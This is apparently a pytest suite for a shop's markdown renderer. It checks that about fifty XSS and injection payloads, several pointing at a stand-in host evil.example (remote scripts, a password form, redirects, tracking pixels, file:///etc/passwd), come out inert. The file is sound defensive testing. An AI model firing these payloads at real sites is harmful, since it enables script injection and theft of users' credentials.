import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import Markup

from bodega.kernel.markdown import _CLEANER, LONGEST_MARKDOWN, render_markdown

PAYLOADS = r"""
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></ScRiPt>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><animate attributeName=href values=javascript:alert(1) /></svg>
<iframe src="javascript:alert(1)"></iframe>
<a href="javascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="java&#x0a;script:alert(1)">x</a>
<body onload=alert(1)>
<style>@import 'http://evil.example/x.css';</style>
<p style="background:url(javascript:alert(1))">x</p>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<form action=http://evil.example><input name=password></form>
<details open ontoggle=alert(1)>
<base href="http://evil.example/">
<meta http-equiv=refresh content="0;url=http://evil.example">
<template><script>alert(1)</script></template>
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java	script:alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6A&#x61&#x76&#x61script:alert(1))
[x](\javascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](file:///etc/passwd)
[x](http://a.example/"onmouseover="alert(1))
[x](<http://a.example/" onmouseover="alert(1)>)
[x](http://a.example "t" onclick="alert(1)")
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![x"onerror="alert(1)](/media/a.webp)
![x](/media/a.webp "t" onerror=alert(1))
![x](//evil.example/count.gif)
![x](/\evil.example/count.gif)
![x](https://evil.example/count.gif)
![x](/&Tab;/evil.example/count.gif)
<img src="/&Tab;/evil.example/count.gif">
<img src="/&NewLine;\evil.example/count.gif">
<javascript:alert(1)>
<http://a.example/"><script>alert(1)</script>
`<script>alert(1)</script>`
```html"><script>alert(1)</script>
| <script>alert(1)</script> |
[x]: javascript:alert(1)
[x][y] [y]: javascript:alert(1)
{{ 7 * 7 }}{% include "/etc/passwd" %}
""".strip().splitlines()


class Tags(HTMLParser):
    """Everything a browser would act upon."""

    def __init__(self, html):
        super().__init__()
        self.tags = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def assert_harmless(html):
    for tag, attributes in Tags(html).tags:
        assert tag in [
            "p",
            "br",
            "hr",
            "blockquote",
            "pre",
            "h3",
            "h4",
            "h5",
            "h6",
            "ul",
            "ol",
            "li",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "a",
            "code",
            "em",
            "strong",
            "s",
            "img",
        ]
        assert set(attributes) <= {"href", "rel", "title", "src", "alt", "start"}
        scheme = re.match(r"[a-z][a-z0-9+.-]*:", as_a_browser_reads(attributes.get("href")))
        assert scheme is None or scheme[0] in {"http:", "https:", "mailto:"}
        src = as_a_browser_reads(attributes.get("src"))
        assert not src or (src.startswith("/") and not src.startswith("//"))


def as_a_browser_reads(url):
    """The WHATWG's way: controls and blanks around it fall, tabs and line ends within it too."""
    trimmed = (url or "").strip("".join(map(chr, range(33))))
    return re.sub(r"[\t\r\n]", "", trimmed).replace("\\", "/").lower()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_script_hidden_in_a_listing_never_runs(payload):
    assert_harmless(render_markdown(payload))
    assert_harmless(
        render_markdown(f"# {payload}\n\n- {payload}\n\n> {payload}\n\n| a |\n|---|\n| {payload} |")
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_cleaner_holds_even_if_the_parser_let_html_through(payload):
    assert_harmless(_CLEANER.clean(payload))


@given(st.text(alphabet="<>[]()!\"'`&;:/\\#=|-* \njavscriptonerlhf012", max_size=120))
def test_no_text_at_all_becomes_active(text):
    assert_harmless(render_markdown(text))


def test_a_listing_keeps_what_its_owner_meant():
    html = render_markdown(
        "# 使用方法\n\n1. 打开 **Steam**\n2. 输入 `卡密`\n\n第一行\n第二行\n\n| 面值 | 到账 |\n|---|---|\n| 100 | 秒到 |\n\n~~旧~~"
    )
    assert isinstance(html, Markup)
    assert "<h3>使用方法</h3>" in html
    assert "<strong>Steam</strong>" in html
    assert "第一行<br>\n第二行" in html
    assert "<td>秒到</td>" in html
    assert "<s>旧</s>" in html


def test_a_link_earns_nothing_for_whoever_planted_it():
    [_, (tag, attributes)] = Tags(render_markdown("[官网](https://store.example/ '商店')")).tags
    assert tag == "a"
    assert attributes["href"] == "https://store.example/"
    assert set(attributes["rel"].split()) == {"nofollow", "noopener", "noreferrer"}


def test_a_picture_of_the_shop_itself_is_shown():
    assert '<img src="/media/card.webp" alt="卡"' in render_markdown("![卡](/media/card.webp)")


@pytest.mark.parametrize(
    "text", ["[" * 50_000, "> " * 50_000, "*a_" * 50_000, "`" * 50_000, "|" * 50_000 + "\n|-"]
)
def test_a_text_made_to_be_slow_is_cut_and_rendered(text):
    assert len(render_markdown(text)) < 40 * LONGEST_MARKDOWN


def test_raw_html_is_shown_as_the_text_it_is():
    assert render_markdown("<b>便宜</b>") == "<p>&lt;b&gt;便宜&lt;/b&gt;</p>\n"


def test_a_text_that_is_too_long_ends_where_the_form_would_have_stopped_it():
    html = render_markdown("a" * LONGEST_MARKDOWN + "beyond")
    assert "beyond" not in html
    assert html.count("a") == LONGEST_MARKDOWN
